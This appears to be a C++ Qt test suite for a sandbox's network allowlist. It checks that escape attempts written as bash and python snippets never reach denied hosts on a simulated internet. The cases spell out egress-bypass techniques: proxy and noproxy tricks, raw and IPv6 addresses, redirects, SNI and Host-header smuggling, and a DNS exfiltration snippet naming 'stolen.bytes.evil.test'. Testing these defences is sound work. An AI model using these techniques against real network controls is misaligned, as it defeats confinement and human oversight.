// SPDX-License-Identifier: Apache-2.0
// A run with an allowlist that wants more (ESCAPES 39, 41 to 46). The verdict is what reached the servers of the test internet and
// the host itself, never what the payload prints; that all of this can be reached from the host, tst_testinternet shows.
#include "networkrun.h"

using namespace glovebox;
using namespace Qt::StringLiterals;

class TestCliEgressAttacks : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { chooseBuilder(); }

    void nobodyElseIsReached_data()
    {
        QTest::addColumn<QStringList>("allow");
        QTest::addColumn<QString>("language");
        QTest::addColumn<QString>("code");
        QTest::addColumn<QByteArrayList>("never"); // beginnings of lines
        QTest::addColumn<QString>("attempt"); // on record; empty: nothing to see
        const QStringList www{u"www.allowed.test"_s};
        const QByteArrayList denied{"accept 203.0.113.20", "accept 2001:db8:2::20", "sni denied", "sni www.denied",
                                    "request http denied", "request https denied",  "dns denied", "dns www.denied"};
        const auto bash = [&](const char *name, const QString &code, const QString &attempt, const QStringList &allow,
                              const QByteArrayList &never) {
            QTest::newRow(name) << allow << u"bash"_s << code << never << attempt;
        };
        const auto python = [&](const char *name, const QString &attempt, const QByteArrayList &never,
                                const QStringList &allow = {u"www.allowed.test"_s}) {
            QTest::newRow(name) << allow << u"python"_s << attack(QString::fromUtf8(name)) << never << attempt;
        };

        // 42: a denied host, on every way.
        bash("HTTP", u"curl -sS http://denied.test/"_s, u"denied http denied.test:80"_s, www, denied);
        bash("HTTPS", u"curl -sSk https://denied.test/"_s, u"denied connect denied.test:443"_s, www, denied);
        bash("SOCKS by name", u"curl -sSk -x socks5h://127.0.0.1:1080 https://denied.test/"_s,
             u"denied socks denied.test:443"_s, www, denied);
        bash("SOCKS by address", u"curl -sSk -x socks5://127.0.0.1:1080 https://203.0.113.20/"_s,
             u"denied socks 203.0.113.20:443"_s, www, denied);
        bash("by name", u"curl -sSk --noproxy '*' https://denied.test/"_s, u"denied name denied.test:0"_s, www, denied);
        bash("by address", u"curl -sSk --noproxy '*' https://203.0.113.20/"_s, u"denied direct 203.0.113.20:443"_s, www,
             denied);
        bash("by IPv6 address", u"curl -gsSk --noproxy '*' 'https://[2001:db8:2::20]/'"_s,
             u"denied direct 2001:db8:2::20:443"_s, www, denied);
        bash("an allowed host's address", u"curl -sS --noproxy '*' http://203.0.113.10/"_s,
             u"denied direct 203.0.113.10:80"_s, www, {"accept"});
        bash("another port", u"curl -sS http://www.allowed.test:8080/"_s, u"denied http www.allowed.test:8080"_s, www,
             {"accept"});
        bash("another port, without a proxy", u"curl -sS --noproxy '*' http://www.allowed.test:8080/"_s, {}, www,
             {"accept"});
        bash("the domain above", u"curl -sS http://allowed.test/ http://allowed.test:80/"_s,
             u"denied http allowed.test:80"_s, {u"*.allowed.test"_s}, {"accept", "dns"});
        bash("with an empty list",
             u"curl -sS --max-time 3 -x http://127.0.0.1:3128 http://www.allowed.test/;"
             u" curl -sS --max-time 3 http://www.allowed.test/ http://203.0.113.10/"_s,
             {}, {}, {"accept", "dns", "canary"});

        // 45
        bash("redirect", u"curl -sSL 'http://www.allowed.test/redirect?to=http://denied.test/secret'"_s,
             u"denied http denied.test:80"_s, www, denied);
        bash("redirect to HTTPS",
             u"curl -sSkL --noproxy '*' 'https://www.allowed.test/redirect?to=https://denied.test/'"_s,
             u"denied name denied.test:0"_s, www, denied);

        // 41
        bash("DNS of its own",
             u"python3 - <<'E'\n"
             u"import socket\n"
             u"q = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\1\\0\\1'\n"
             u"for where in ('203.0.113.53', '127.0.0.1', '8.8.8.8'):\n"
             u"    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
             u"    s.settimeout(0.5)\n"
             u"    try:\n"
             u"        s.sendto(q, (where, 53)); print(s.recv(100))\n"
             u"    except OSError as e: print(e)\n"
             u"E\n"
             u"getent hosts stolen.bytes.evil.test; getent hosts _srv.allowed.test"_s,
             u"denied name stolen.bytes.evil.test:0"_s, www, {"dns"});

        // 44
        python("suffix tricks", u"denied connect evil-allowed.test:80"_s, denied + QByteArrayList{"accept"},
               {u"*.allowed.test"_s});

        // 46
        const QByteArrayList stolen{
            "sni tenant",           "sni denied",          "sni www.denied", "request http tenant",
            "request https tenant", "request http denied", "canary"};
        python("another name in the hello", u"denied connect www.allowed.test:443"_s, stolen);
        python("without a proxy", u"denied direct www.allowed.test:443"_s, stolen);
        python("by SOCKS", u"denied socks www.allowed.test:443"_s, stolen);
        python("a hello without a name", u"denied direct www.allowed.test:443"_s, {"sni"});
        python("a hello in single bytes", u"denied direct www.allowed.test:443"_s, stolen);
        python("a hello in many records", u"denied connect www.allowed.test:443"_s, stolen);
        python("a hello on another port", u"denied direct www.allowed.test:8443"_s, stolen,
               {u"www.allowed.test:8443"_s});
        python("a late hello on another port", u"denied direct www.allowed.test:8443"_s, stolen,
               {u"www.allowed.test:8443"_s});
        python("a second hello after a retry", u"denied direct www.allowed.test:8443"_s, stolen,
               {u"www.allowed.test:8443"_s, u"www.allowed.test"_s});
        bash("a request to the port of TLS", u"curl -sS http://www.allowed.test:443/"_s,
             u"denied http www.allowed.test:443"_s, www, {"accept"});
        python("no TLS where TLS is due", u"denied connect www.allowed.test:443"_s, stolen);

        // The same by the Host field.
        python("another Host field", u"denied direct tenant.denied.test:80"_s, stolen);
        python("another Host field, late", u"denied direct tenant.denied.test:80"_s, stolen);
        python("another Host field on another port", u"denied direct tenant.denied.test:8080"_s, stolen,
               {u"www.allowed.test:8080"_s});
        python("a line of junk before a request", u"denied direct www.allowed.test:8080"_s, stolen,
               {u"www.allowed.test:8080"_s});
        python("a method that comes in pieces", u"denied direct www.allowed.test:8080"_s,
               {"request http tenant", "request http  ", "request http www.allowed.test:8080"},
               {u"www.allowed.test:8080"_s});
        python("a host without the name of HTTP", u"denied direct www.allowed.test:8080"_s, {"request http  "},
               {u"www.allowed.test:8080"_s});
        python("another Host field in odd clothes", u"denied direct www.allowed.test:80"_s,
               {"request http tenant", "request http http://tenant", "request http  tenant"});
        python("kept connection, another host", u"denied http denied.test:80"_s, denied + stolen);
        python("pipelined, another host", u"denied http denied.test:80"_s, denied + stolen);
        python("a request hidden in another", {}, {"request http tenant", "request http www.allowed.test GET /hidden"});
        python("a body that nobody reads", {}, stolen);
        python("a body that can't be followed", u"denied http www.allowed.test:80"_s, {"request http tenant"});
        python("an upgrade that the server doesn't want", u"denied connect tenant.denied.test:80"_s, stolen);
        python("an upgrade to what can't be read", {}, {"request http PRI"});

        // 39, 43: what is on the host, and spellings of it.
        python("ourselves and the host", u"denied connect 127.0.0.1:80"_s, {"canary", "accept"});
        python("odd addresses", u"denied direct 2002:cb00:7114:::80"_s, denied + QByteArrayList{"canary", "accept"});
        python("past the listeners", u"denied direct 10.0.0.5:80"_s, {"canary", "accept"});
    }

    void nobodyElseIsReached()
    {
        QFETCH(QStringList, allow);
        QFETCH(QString, language);
        QFETCH(QString, code);
        QFETCH(QByteArrayList, never);
        QFETCH(QString, attempt);
        const NetworkRun run(m_home, allow, language, code, {u"-t"_s, u"60"_s});
        QCOMPARE(run.result()[u"outcome"_s].toString().isEmpty(), false);
        for (const QByteArray &beginning : std::as_const(never))
            QVERIFY2(!run.reachedAny(beginning), beginning + '\n' + run.story());
        if (!attempt.isEmpty() && (isDirect || !isByItself(attempt)))
            QVERIFY2(run.attempts().contains(attempt), run.story());
        QVERIFY2(!run.story().contains("Traceback"), run.story()); // it came to its end
    }

    void trapsStayShut_data()
    {
        QTest::addColumn<QString>("host");
        for (const char *host : {"loopback", "loopback6", "alias", "own", "own6", "mapped", "zero", "linklocal",
                                 "metadata", "private", "shared", "nat64", "sixtofour"})
            QTest::newRow(host) << QString::fromUtf8(host) + u".trap.test"_s;
    }

    void trapsStayShut()
    {
        QFETCH(QString, host);
        const NetworkRun run(m_home, {host, host + u":8080"_s}, u"bash"_s,
                             u"for way in '' --noproxy\\ * -p '-x socks5h://127.0.0.1:1080'; do\n"
                             u"  set -f; curl -sS --max-time 5 $way http://%1/ http://%1:8080/; done"_s.arg(host));
        QVERIFY2(!run.reachedAny("canary") && !run.reachedAny("accept"), run.story());
        QVERIFY2(run.attempts().contains(u"denied http %1:80"_s.arg(host)), run.story());
        QVERIFY2(!isDirect || run.attempts().contains(u"denied direct %1:8080"_s.arg(host)), run.story());
        QVERIFY2(run.attempts().contains(u"denied socks %1:80"_s.arg(host)), run.story());
    }

    void aNameThatIsReboundIsCheckedAgain()
    {
        const NetworkRun run(m_home, {u"rebind.trap.test"_s}, u"bash"_s,
                             u"for i in 1 2 3; do curl -sS %1 http://rebind.trap.test/; done; "
                             u"curl -sS http://rebind.trap.test/"_s.arg(isDirect ? u"--noproxy '*'"_s : QString()));
        QVERIFY2(run.reached("accept 203.0.113.14 80") && !run.reachedAny("canary"), run.story());
        QVERIFY2(run.attempts().contains(u"denied %1 rebind.trap.test:80"_s.arg(isDirect ? u"direct"_s : u"http"_s)),
                 run.story());
    }

    void aPrivateAddressIsReachedOnlyAsThatLiteral()
    {
        const NetworkRun run(
            m_home, {u"10.0.0.5"_s}, u"bash"_s,
            u"curl -sS http://10.0.0.5/; curl -sS --noproxy '*' http://10.0.0.5/; curl -sS http://private.trap.test/"_s);
        QVERIFY2(run.out()
                     == QByteArray("hello from 10.0.0.5 by http\n").repeated(isDirect ? 2 : 1)
                            + "Glovebox: private.trap.test:80 is not on this run's allowlist.\n",
                 run.story());
    }

private:
    // Of a program that knows nothing of proxies.
    static bool isByItself(const QString &attempt)
    {
        return attempt.contains(u" direct ") || attempt.contains(u" name ");
    }

    Home m_home;
};

GLOVEBOX_INTERNET_TEST_MAIN(TestCliEgressAttacks)
#include "tst_cliegressattacks.moc"
